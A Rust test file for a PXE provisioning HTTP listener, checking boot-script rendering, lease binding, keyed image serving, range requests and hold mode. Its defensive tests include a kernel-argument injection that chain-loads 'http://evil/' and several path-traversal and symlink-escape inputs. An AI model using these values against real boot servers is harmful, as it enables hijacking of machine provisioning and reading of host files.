//! What the provisioning listener serves to machines: asked directly, without a socket.

use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::sync::Arc;

use anyhow::Result;
use bessemer::clock::Clock;
use bessemer::model::{BootPlan, FlowName, Hold, ImageGrant, Work};
use bessemer::pxe::http::{Handler, Inner};
use bessemer::random::Random;
use bessemer::store::blobs::{self, BlobKind};
use bessemer::store::leases::{self, Lease};
use bessemer::store::{StoreError, hold, work};
use http_body_util::BodyExt as _;
use hyper::{Method, Request, StatusCode};
use jiff::SignedDuration;

use super::world::{OURS, SILENT, World};

const MACHINE: Ipv4Addr = Ipv4Addr::new(127, 77, 1, 10);

struct Listener {
    world: World,
    handler: Handler,
}

struct Answer {
    status: StatusCode,
    head: hyper::HeaderMap,
    body: Vec<u8>,
}

impl Answer {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

impl Listener {
    async fn new() -> Result<Self> {
        let world = World::new().await?;
        let roots = world.dir.path().join("roots");
        std::fs::create_dir(&roots)?;
        let images = roots.clone();
        let handler = Handler::new(Inner {
            store: world.store.clone(),
            clock: Clock::system(),
            loaders: world.loaders()?,
            url: "http://127.77.0.1:8080".into(),
            roots: vec![roots],
            trace: Default::default(),
            open_image: Arc::new(move |name| match name {
                "sha256-aa" | "sha256-cc" => {
                    let file = std::fs::File::open(images.join("image"))?;
                    let len = file.metadata()?.len();
                    Ok(Some((file, len)))
                }
                _ => Ok(None),
            }),
        });
        Ok(Listener { world, handler })
    }

    fn root(&self) -> PathBuf {
        self.world.dir.path().join("roots")
    }

    async fn ask(&self, method: Method, path: &str, headers: &[(&str, &str)]) -> Result<Answer> {
        let mut request = Request::builder().method(method).uri(path);
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let peer = SocketAddr::from((MACHINE, 4000));
        let response = self.handler.answer(&request.body(())?, peer).await;
        let (head, body) = response.into_parts();
        let body = body.collect().await?.to_bytes().to_vec();
        Ok(Answer { status: head.status, head: head.headers, body })
    }

    async fn get(&self, path: &str) -> Result<Answer> {
        self.ask(Method::GET, path, &[]).await
    }

    /// A plan whose kernel and ramdisk are files below the root.
    async fn plan(&self) -> Result<BootPlan> {
        let (kernel, ramdisk) = (self.root().join("vmlinuz"), self.root().join("initrd"));
        std::fs::write(&kernel, "KERNEL")?;
        std::fs::write(&ramdisk, "RAMDISK".repeat(100_000))?;
        self.world.plan(&kernel.display().to_string(), &ramdisk.display().to_string(), "text ipa-debug=1").await
    }

    /// Leave for the node to fetch an image. The path of it.
    async fn grant(&self, name: &str) -> Result<String> {
        let grant = ImageGrant { key: Random::system().token(), name: name.to_owned() };
        let (node, stored) = (self.world.node, grant.clone());
        let put = self.world.store.write(move |tx| {
            if work::of_node(tx, node)?.is_none() {
                work::insert(tx, &Work::for_node(FlowName::Deploy, node, tx.now()))?;
            }
            blobs::put_json(tx, node, BlobKind::ImageGrant, &stored)
        });
        put.await.map_err(|error: StoreError| error)?;
        Ok(format!("/images/{node}/{}/{name}", grant.key))
    }

    async fn lease(&self, address: Ipv4Addr, secs: i64) -> Result<()> {
        let put = self.world.store.write(move |tx| {
            let expires_at = tx.now() + SignedDuration::from_secs(secs);
            leases::put(tx, &Lease { mac: OURS.to_string(), address, expires_at, hostname: None })
        });
        Ok::<_, StoreError>(put.await?).map_err(Into::into)
    }
}

#[tokio::test]
async fn a_machine_that_is_not_being_deployed_is_told_to_boot_its_disk() -> Result<()> {
    let listener = Listener::new().await?;
    for mac in ["52-54-00-77-00-10", "52:54:00:77:00:10", "52-54-00-77-00-11", "02-00-00-00-00-01"] {
        let answer = listener.get(&format!("/boot/{mac}.ipxe")).await?;
        assert_eq!(answer.status, StatusCode::OK);
        let script = answer.text();
        assert!(script.starts_with("#!ipxe\n") && script.contains("sanboot --no-describe --drive 0x80"), "{script}");
    }
    Ok(())
}

#[tokio::test]
async fn a_plan_is_rendered_when_it_is_asked_for_and_its_files_are_served() -> Result<()> {
    let listener = Listener::new().await?;
    let plan = listener.plan().await?;
    let script = listener.get("/boot/52-54-00-77-00-10.ipxe").await?.text();
    let base = format!("/boot/{}/{}", listener.world.node, plan.key);
    assert!(
        script.contains(&format!("kernel http://127.77.0.1:8080{base}/kernel text ipa-debug=1 BOOTIF=01-")),
        "{script}"
    );
    assert_eq!(listener.get(&format!("{base}/kernel")).await?.text(), "KERNEL");
    assert_eq!(listener.get(&format!("{base}/ramdisk")).await?.body.len(), 700_000);
    // Another card of the same node that may not boot from the network, alone and beside the one that may.
    let silent = listener.get(&format!("/boot/{}.ipxe", SILENT.hyphens())).await?.text();
    assert!(silent.contains("sanboot"), "{silent}");
    let both = listener.get(&format!("/boot/{},{},.ipxe", SILENT.hyphens(), OURS.hyphens())).await?.text();
    assert_eq!(both, script);

    let next = listener.plan().await?;
    assert_ne!(next.key, plan.key);
    assert_eq!(listener.get(&format!("{base}/kernel")).await?.status, StatusCode::NOT_FOUND, "an old key is void");
    Ok(())
}

#[tokio::test]
async fn a_plan_is_told_only_to_the_address_that_the_machine_leased() -> Result<()> {
    let listener = Listener::new().await?;
    listener.plan().await?;
    for (address, secs, told) in
        [(MACHINE, 600, true), (Ipv4Addr::new(127, 77, 1, 99), 600, false), (Ipv4Addr::new(127, 77, 1, 99), -1, true)]
    {
        listener.lease(address, secs).await?;
        let script = listener.get("/boot/52-54-00-77-00-10.ipxe").await?.text();
        assert_eq!(script.contains("\nkernel "), told, "lease of {address} for {secs} s");
    }
    Ok(())
}

#[tokio::test]
async fn kernels_outside_the_roots_are_not_served() -> Result<()> {
    let listener = Listener::new().await?;
    let outside = listener.world.dir.path().join("db");
    let link = listener.root().join("link");
    std::os::unix::fs::symlink(&outside, &link)?;
    for kernel in [outside, link, "/etc/hostname".into(), "relative".into(), listener.root()] {
        let plan = listener.world.plan(&kernel.display().to_string(), "/none", "").await?;
        let answer = listener.get(&format!("/boot/{}/{}/kernel", listener.world.node, plan.key)).await?;
        assert_eq!(answer.status, StatusCode::INTERNAL_SERVER_ERROR, "{kernel:?}");
        assert!(!answer.text().contains('/'), "no path is told");
    }
    Ok(())
}

#[tokio::test]
async fn a_plan_that_would_be_commands_is_not_rendered() -> Result<()> {
    let listener = Listener::new().await?;
    listener.world.plan("/k", "/r", "quiet\nchain http://evil/").await?;
    let script = listener.get("/boot/52-54-00-77-00-10.ipxe").await?.text();
    assert!(!script.contains("evil") && script.contains("exit 1"), "{script}");
    Ok(())
}

#[tokio::test]
async fn images_are_served_whole_in_part_and_by_size() -> Result<()> {
    let listener = Listener::new().await?;
    let image: Vec<u8> = (0..1_000_000_u32).map(|n| (n % 251) as u8).collect();
    std::fs::write(listener.root().join("image"), &image)?;
    let path = listener.grant("sha256-aa").await?;
    let whole = listener.get(&path).await?;
    assert_eq!((whole.status, whole.body == image), (StatusCode::OK, true));
    assert_eq!(whole.head["accept-ranges"], "bytes");

    let part = listener.ask(Method::GET, &path, &[("range", "bytes=300000-899999")]).await?;
    assert_eq!((part.status, part.body == image[300_000..900_000]), (StatusCode::PARTIAL_CONTENT, true));
    assert_eq!(part.head["content-range"], "bytes 300000-899999/1000000");
    assert_eq!(part.head["content-length"], "600000");

    let beyond = listener.ask(Method::GET, &path, &[("range", "bytes=1000000-")]).await?;
    assert_eq!((beyond.status, beyond.body.len()), (StatusCode::RANGE_NOT_SATISFIABLE, 0));
    assert_eq!(beyond.head["content-range"], "bytes */1000000");

    let head = listener.ask(Method::HEAD, &path, &[]).await?;
    assert_eq!((head.status, head.body.len()), (StatusCode::OK, 0));
    assert_eq!(head.head["content-length"], "1000000");
    Ok(())
}

#[tokio::test]
async fn an_image_is_served_under_the_key_of_its_deploy_and_only_as_long_as_that_lasts() -> Result<()> {
    let listener = Listener::new().await?;
    std::fs::write(listener.root().join("image"), "IMAGE")?;
    let status = async |path: &str| Ok::<_, anyhow::Error>(listener.get(path).await?.status);
    let (node, missing) = (listener.world.node, StatusCode::NOT_FOUND);
    // Whoever knows the checksum of a public image knows no address.
    assert_eq!(status("/images/sha256-aa").await?, missing);
    let path = listener.grant("sha256-aa").await?;
    assert_eq!(status(&path).await?, StatusCode::OK);
    let key = path.split('/').nth(3).unwrap_or_default();
    for other in [
        format!("/images/{node}/{key}/sha256-cc"),
        format!("/images/{node}/{key}/"),
        format!("/images/{node}/{key}/../sha256-aa"),
        format!("/images/{node}/{}/sha256-aa", &key[..key.len() - 1]),
        format!("/images/{node}//sha256-aa"),
        format!("/images/{}/{key}/sha256-aa", uuid::Uuid::nil()),
        format!("/images/x/{key}/sha256-aa"),
        format!("/boot/{node}/{key}/kernel"),
        "/images/sha256-aa".to_owned(),
        "/images/".to_owned(),
        "/images".to_owned(),
    ] {
        assert_eq!(status(&other).await?, missing, "{other}");
    }
    // The next deploy has another key.
    let next = listener.grant("sha256-aa").await?;
    assert_eq!((status(&path).await?, status(&next).await?), (missing, StatusCode::OK));
    // It ends with the work.
    let ended = listener.world.store.write(move |tx| match work::of_node(tx, node)? {
        Some(owed) => work::delete(tx, owed.id),
        None => Ok(false),
    });
    assert!(ended.await.map_err(|error: StoreError| error)?);
    assert_eq!(status(&next).await?, missing);
    Ok(())
}

#[tokio::test]
async fn loaders_are_served_and_everything_else_is_refused_quickly() -> Result<()> {
    let listener = Listener::new().await?;
    let loader = listener.get("/boot/loader/snponly.efi").await?;
    assert_eq!((loader.status, loader.text().starts_with("snponly.efi")), (StatusCode::OK, true));
    let entry = listener.get("/boot.ipxe").await?.text();
    assert!(
        entry.starts_with("#!ipxe\n") && entry.contains("chain http://127.77.0.1:8080/boot/${macs}.ipxe"),
        "{entry}"
    );
    let node = listener.world.node;
    for path in [
        "/",
        "/pxelinux.cfg/01-52-54-00-77-00-10",
        "/grub/grub.cfg",
        "/grub.cfg-01-52-54-00-77-00-10",
        "/boot/loader/..%2fdb",
        "/boot/loader/../db",
        "/boot/nothing.ipxe",
        "/boot/.ipxe",
        "/boot/52-54-00-77-00-10",
        "/images/sha256-bb",
        "/images/../db",
        &format!("/boot/{node}//kernel"),
        &format!("/boot/{node}/key/config"),
    ] {
        assert_eq!(listener.get(path).await?.status, StatusCode::NOT_FOUND, "{path}");
    }
    let post = listener.ask(Method::POST, "/boot.ipxe", &[]).await?;
    assert_eq!((post.status, post.head["allow"].as_bytes()), (StatusCode::METHOD_NOT_ALLOWED, &b"GET, HEAD"[..]));
    Ok(())
}

#[tokio::test]
async fn in_hold_a_machine_is_told_to_boot_its_disk_and_gets_nothing_of_what_was_planned_for_it() -> Result<()> {
    let listener = Listener::new().await?;
    std::fs::write(listener.root().join("image"), "IMAGE")?;
    let (plan, image) = (listener.plan().await?, listener.grant("sha256-aa").await?);
    let kernel = format!("/boot/{}/{}/kernel", listener.world.node, plan.key);
    let begun = listener.world.store.write(|tx| hold::put(tx, &Hold { since: 0, taken: None, file: None }));
    begun.await.map_err(|error: StoreError| error)?;
    let script = listener.get(&format!("/boot/{}.ipxe", OURS.hyphens())).await?.text();
    assert!(script.contains("sanboot --no-describe --drive 0x80") && script.contains("in hold"), "{script}");
    assert_eq!(listener.get(&kernel).await?.status, StatusCode::NOT_FOUND);
    assert_eq!(listener.get(&image).await?.status, StatusCode::SERVICE_UNAVAILABLE);
    listener.world.store.write(hold::delete).await.map_err(|error: StoreError| error)?;
    assert_eq!(
        (listener.get(&kernel).await?.status, listener.get(&image).await?.status),
        (StatusCode::OK, StatusCode::OK)
    );
    Ok(())
}
